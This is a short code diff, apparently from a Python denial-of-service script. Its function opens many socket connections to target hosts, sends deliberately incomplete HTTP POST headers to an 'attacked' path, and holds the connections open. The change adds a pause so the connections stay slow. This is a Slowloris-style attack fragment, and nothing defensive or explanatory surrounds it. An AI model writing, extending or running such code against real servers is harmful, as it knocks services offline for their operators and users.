@@ -95,6 +95,7 @@ def slow():
             connection = socket.create_connection((place[0], int(place[1])))
             connection.sendall(f"POST {attacked} HTTP/1.1\r\nHost: x\r\n".encode())
         held.append(connection)
+    time.sleep(5)  # what they did send is answered: from here on they are slow, not many
     return held
 
 
